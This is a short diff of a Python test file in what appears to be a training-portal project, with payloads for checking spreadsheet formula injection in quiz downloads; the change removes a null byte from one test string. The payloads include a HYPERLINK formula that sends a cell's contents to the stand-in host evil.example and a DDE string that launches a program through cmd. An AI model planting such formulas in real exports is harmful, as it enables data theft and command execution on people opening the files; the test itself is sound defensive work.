@@ -17,7 +17,7 @@ from training_portal.quizzes.models import Phase, QuizAttempt
 
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 PAYLOADS = [f"{trigger}HYPERLINK(\"http://evil.example/?\"&A1,\"Sokha\")" for trigger in TRIGGERS]
-PAYLOADS += ["=1+2", "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "Dara\x00\x01\x07\x0b\x1f Sok", "+855 12 345 678"]
+PAYLOADS += ["=1+2", "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "Dara\x01\x07\x0b\x1f Sok", "+855 12 345 678"]
 
 
 # Found by this test and reported; remove an entry when its download is fixed (the test then keeps it fixed).
